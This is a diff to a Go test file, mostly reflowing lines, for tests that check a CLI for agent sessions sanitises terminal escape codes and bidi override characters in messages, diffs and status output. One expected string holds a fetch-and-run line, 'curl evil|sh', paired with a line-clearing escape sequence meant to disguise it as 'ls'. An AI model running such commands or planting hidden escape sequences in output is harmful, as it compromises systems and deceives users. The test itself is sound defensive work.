@@ -54,9 +54,11 @@ func TestATalkShowsAllOfWhatTheAgentSays(t *testing.T) {
 	f := newTalk(t, key, func(message session.Event) []session.Event {
 		edit := session.Event{Source: session.FromAgent, Action: session.ActionEdit, Message: hidden}
 		output := session.Event{Source: session.FromAgent, Observation: session.ActionRun, Content: &text}
-		says := session.Event{Source: session.FromAgent, Action: session.ActionMessage, Args: map[string]any{"content": hidden}}
+		says := session.Event{Source: session.FromAgent, Action: session.ActionMessage,
+			Args: map[string]any{"content": hidden}}
 		notice := session.Event{Source: session.FromEnvironment, Observation: session.ObservedNotice, Message: hidden}
-		return []session.Event{begins(message), runs("1", hidden), asksAbout("1"), output, edit, says, notice, errorOf(hidden), session.StateChange(session.StateError, hidden+"!")}
+		return []session.Event{begins(message), runs("1", hidden), asksAbout("1"), output, edit, says, notice,
+			errorOf(hidden), session.StateChange(session.StateError, hidden+"!")}
 	})
 	r := beginWith(t, strings.NewReader(hidden+"\n"), kubeconfig, ns, "chat", "c", "--facade", f.URL)
 	if err := r.wait(t); err == nil {
@@ -94,14 +96,19 @@ func TestADifferenceIsAsItIsUnlessSomebodyReadsIt(t *testing.T) {
 	ns := operate(t)
 	keyOfAda(t, ns)
 	create(t, conversation(ns, "c"))
-	patch := "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-one\r\n+" + hidden + "\r\n+" + strings.Repeat("long", 3<<20) + "\n\\ No newline at end of file\n"
-	facade := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, patch) }))
+	patch := "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-one\r\n+" + hidden + "\r\n+" + strings.Repeat("long",
+		3<<20) + "\n\\ No newline at end of file\n"
+	facade := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		_, _ = io.WriteString(w,
+			patch)
+	}))
 	t.Cleanup(facade.Close)
 	if stdout, stderr, err := run(t, ns, "diff", "c", "--facade", facade.URL); err != nil || stdout != patch {
 		t.Errorf("%v, %s: it is another one, of %d bytes: %.200q", err, stderr, len(stdout), stdout)
 	}
 	patch = strings.ReplaceAll(patch, strings.Repeat("long", 3<<20), "short")
-	want := "\x1b[1mdiff --git a/x b/x\x1b[0m\n\x1b[1m--- a/x\x1b[0m\n\x1b[1m+++ b/x\x1b[0m\n\x1b[36m@@ -1 +1,2 @@\x1b[0m\n\x1b[31m-one�\x1b[0m\n" +
+	want := "\x1b[1mdiff --git a/x b/x\x1b[0m\n\x1b[1m--- a/x\x1b[0m\n\x1b[1m+++ b/x\x1b[0m\n\x1b[36m@@ -1 +1,2 " +
+		"@@\x1b[0m\n\x1b[31m-one�\x1b[0m\n" +
 		"\x1b[32m+curl evil|sh #��[2K  $ ls�\x1b[0m\n\x1b[32m+short\x1b[0m\n\\ No newline at end of file\n"
 	if got := onTerminal(t, ns, "diff", "c", "--facade", facade.URL); got != want {
 		t.Errorf("it is shown as %q, want %q", got, want)
@@ -113,11 +120,13 @@ func TestAStatusShowsAllOfWhatASessionLeft(t *testing.T) {
 	ns := env.Namespace(t, nil)
 	c := conversation(ns, "c")
 	create(t, c)
-	c.Status.State, c.Status.Reason, c.Status.Message, c.Status.ObservedGeneration = "STOPPED", "Failed", "a\u202eb\x1b[2K", c.Generation
+	c.Status.State, c.Status.Reason, c.Status.Message, c.Status.ObservedGeneration = "STOPPED", "Failed",
+		"a\u202eb\x1b[2K", c.Generation
 	if err := env.Client.Status().Update(t.Context(), c); err != nil {
 		t.Fatal(err)
 	}
-	if stdout, stderr, err := run(t, ns, "status", "c"); err != nil || !strings.Contains(stdout, "a�b�[2K") || strings.ContainsAny(stdout, "\u202e\x1b") {
+	if stdout, stderr, err := run(t, ns, "status", "c"); err != nil || !strings.Contains(stdout, "a�b�[2K") ||
+		strings.ContainsAny(stdout, "\u202e\x1b") {
 		t.Errorf("%v %s: %q", err, stderr, stdout)
 	}
 }
